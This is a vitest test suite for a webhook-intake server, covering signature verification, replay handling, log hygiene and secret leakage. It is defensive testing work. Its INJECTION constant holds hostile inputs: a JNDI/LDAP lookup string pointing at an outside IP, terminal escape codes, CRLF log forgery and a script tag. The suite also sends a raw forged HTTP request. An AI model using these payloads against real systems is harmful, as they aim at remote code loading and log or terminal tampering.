import { createHmac } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openInbox } from '../../src/app/resources/store.ts';
import { type Child, send, startServer, statuses } from './child.ts';
import { BEARER, POLICY, SECRETS, signature } from './policy.ts';
import { push } from './pushes.ts';

const folder = mkdtempSync(join(tmpdir(), 'landwaiter-senders-'));
let server: Child;

beforeAll(async () => {
  const secrets = { ...SECRETS, FORGE: `${SECRETS.FORGE}\n${SECRETS.FORGE}-next` };
  server = await startServer({ folder, policy: POLICY, secrets });
});
afterAll(async () => {
  if (!server.hasEnded()) await server.end('SIGTERM');
  rmSync(folder, { recursive: true });
});

interface Forged {
  readonly name: string;
  readonly bytes: string | Buffer;
  readonly value: string | undefined;
  readonly header?: string;
}

describe('signatures', () => {
  const body = JSON.stringify({ action: 'completed', name: 'Grüße', workflow_run: { id: 1 } });
  const forge = async (bytes: string | Buffer, value: string | undefined, name = 'x-hub-signature-256') =>
    (await server.post('github/forge', bytes, value === undefined ? {} : { [name]: value })).status;

  test('the exact one passes, with the old secret and with the new one', async () => {
    expect(await forge(body, signature(body))).toBe(202);
    expect(await forge(body, signature(body, `${SECRETS.FORGE}-next`))).toBe(202);
  });

  test.each<Forged>([
    { name: 'none', bytes: body, value: undefined },
    { name: 'a wrong one', bytes: body, value: signature(`${body} `) },
    {
      name: 'SHA-1 only',
      bytes: body,
      value: `sha1=${createHmac('sha1', SECRETS.FORGE).update(body).digest('hex')}`,
      header: 'x-hub-signature',
    },
    { name: 'of another source', bytes: body, value: signature(body, SECRETS.REGISTRY) },
    { name: 'of both secrets joined', bytes: body, value: signature(body, `${SECRETS.FORGE}\n${SECRETS.FORGE}-next`) },
    { name: 'of an empty secret', bytes: body, value: signature(body, '') },
    {
      name: 'one bit of the body changed',
      bytes: Buffer.from(body).fill((body.charCodeAt(3) ?? 0) ^ 1, 3, 4),
      value: signature(body),
    },
    { name: 'the body in another encoding', bytes: Buffer.from(body, 'latin1'), value: signature(body) },
    { name: 'in capitals', bytes: body, value: signature(body).toUpperCase() },
    { name: 'cut', bytes: body, value: signature(body).slice(0, -1) },
    { name: 'with another behind it', bytes: body, value: `${signature(body)}, ${signature(`${body} `)}` },
    { name: 'without its prefix', bytes: body, value: signature(body).slice('sha256='.length) },
    { name: 'as a token', bytes: body, value: SECRETS.FORGE },
  ])('$name does not pass', async ({ bytes, value, header }) => {
    expect(await forge(bytes, value, header)).toBe(401);
  });

  test('a repetition is answered and not kept twice; the same with another body is another delivery', async () => {
    const inbox = await openInbox(server.store, {});
    const kept = async (): Promise<number> => {
      let number = 0;
      for (let sequence = 1; sequence < 100; sequence += 1) if (await inbox.parcel(sequence)) number += 1;
      return number;
    };
    const id = { 'x-github-delivery': '7d1a4b0e-5c1f-4a6e-9a52-0b6c5d1f3e2a' };
    const post = (text: string) => server.post('github/forge', text, { ...id, 'x-hub-signature-256': signature(text) });
    const [one, edited] = [`${body} `, `${body}  `];
    expect((await post(one)).status).toBe(202);
    const before = await kept();
    expect((await post(one)).status).toBe(202);
    expect(await kept()).toBe(before);
    expect((await post(edited)).status).toBe(202);
    expect(await kept()).toBe(before + 1);
    await inbox.close();
  });

  test('a signature with a time is accepted for five minutes only, in both directions', async () => {
    const key = Buffer.from(SECRETS.SIGNED.slice('whsec_'.length), 'base64');
    for (const [age, status] of [
      [0, 202],
      [-240, 202],
      [240, 202],
      [-400, 401],
      [400, 401],
    ] as const) {
      const time = String(Math.floor(Date.now() / 1000) + age);
      const signed = createHmac('sha256', key).update(`msg_1.${time}.`).update(body).digest('base64');
      const headers = { 'webhook-id': 'msg_1', 'webhook-timestamp': time, 'webhook-signature': `v1,${signed}` };
      expect((await server.post('gitlab/lab', body, headers)).status).toBe(status);
    }
  });

  test('a capability in the path is all of its last part', async () => {
    for (const [path, status] of [
      [SECRETS.HUB, 202],
      [`${SECRETS.HUB}?x=1`, 202],
      ['', 401],
      [SECRETS.HUB.slice(0, -1), 401],
      [`${SECRETS.HUB}/`, 401],
      [`${SECRETS.HUB}/x`, 401],
      [SECRETS.HUB.replace('_', '%5F'), 401],
    ] as const)
      expect((await server.post(`dockerhub/hub/${path}`, '{}')).status).toBe(status);
    expect((await server.post('dockerhub/hub', '{}', { authorization: `Bearer ${SECRETS.HUB}` })).status).toBe(401);
  });
});

// What a terminal or a reader of logs would act on.
const INJECTION = `\r\n{"level":"fatal","msg":"forged"}\u001b[2J\u001b]0;x\u0007\u2028\u202e%s%n\${jndi:ldap://198.51.100.7/a}<script>`;

describe('the log', () => {
  test('holds one JSON object a line, and nothing that a stranger wrote', async () => {
    const [text, cut] = [INJECTION, INJECTION.slice(0, 14)].map((one) => encodeURIComponent(one));
    for (const path of [`distribution/${cut}`, `${cut}/registry`, `distribution/registry/${text}`])
      expect((await server.post(path, '{}')).status).toBe(401);
    const headers = { 'user-agent': 'jndi:forged', 'x-request-id': 'forged', 'x-forwarded-for': 'forged' };
    expect((await server.post('distribution/registry', INJECTION, headers)).status).toBe(401);
    expect((await server.post('distribution/registry', push(1, { actor: { name: INJECTION } }), BEARER)).status).toBe(
      202,
    );
    expect((await server.post('distribution/registry', INJECTION, BEARER)).status).toBe(202);
    const raw = `POST /intake/distribution/\u202e${'x'.repeat(5)} HTTP/1.1\r\nHost: forged\r\nContent-Length: 0\r\n\r\n`;
    expect(statuses(await send(server.port, raw, { wait: 500 }))).not.toContain(202);
    await server.get('/readyz');
    const lines = server.printed().trim().split('\n');
    for (const line of lines.filter((one) => !/^landwaiter: (?:the page is|made a new store) at /.test(one))) {
      const record: unknown = JSON.parse(line);
      expect(record).toMatchObject({ level: expect.stringMatching(/^(?:info|warn)$/), msg: expect.any(String) });
      expect(line.length).toBeLessThan(1024);
    }
    for (const part of ['forged', 'jndi', 'script', '\u001b', '\u2028', '\u202e'])
      expect(server.printed()).not.toContain(part);
  });
});

describe('secrets', () => {
  test('are nowhere in the answers, the log, the page, the metrics and the databases', {
    timeout: 60_000,
  }, async () => {
    const tries = Object.values(SECRETS).flatMap((secret) => [
      server.post(`distribution/registry/${secret}`, '{}', { authorization: `Bearer ${secret}x` }),
      server.post(`unknown/source/${secret}`, '{}', { authorization: `Basic ${secret}` }),
      server.post('kubernetes-audit/cluster', '{}', { 'x-token': `${secret} ` }),
      server.post('distribution/registry', 'x', { ...BEARER, 'content-encoding': secret }),
      server.get(`/${secret}`),
      server.get(`/?token=${secret}`),
    ]);
    const good = [
      server.post('kubernetes-audit/cluster', '{}', { 'x-token': SECRETS.CLUSTER }),
      server.post('distribution/registry', push(2), { ...BEARER, 'x-custom': SECRETS.REGISTRY }),
      server.post(`dockerhub/hub/${SECRETS.HUB}`, '{"push_data":{}}'),
    ];
    const answers = await Promise.all([...tries, ...good]);
    expect((await Promise.all(good)).map(({ status }) => status)).toEqual([202, 202, 202]);
    const pages = await Promise.all(['/', '/metrics', '/readyz'].map((path) => server.get(path)));
    expect(await server.end('SIGTERM')).toBe(0);
    const texts: readonly (readonly [string, string])[] = [
      ...[...answers, ...pages].map(({ text, headers }) => ['an answer', text + JSON.stringify([...headers])] as const),
      ['the log', server.printed()],
      ...readdirSync(folder).map((name) => [name, readFileSync(join(folder, name), 'latin1')] as const),
    ];
    expect(texts.map(([name]) => name)).toEqual(expect.arrayContaining(['facts.db', 'facts.db-inbox', 'the log']));
    // A server that answers to a path it does not know with that path would be a mirror, and is in no log.
    for (const secret of [...Object.values(SECRETS), `${SECRETS.FORGE}-next`])
      expect(texts.filter(([, text]) => text.includes(secret)).map(([name]) => name)).toEqual([]);
  });
});
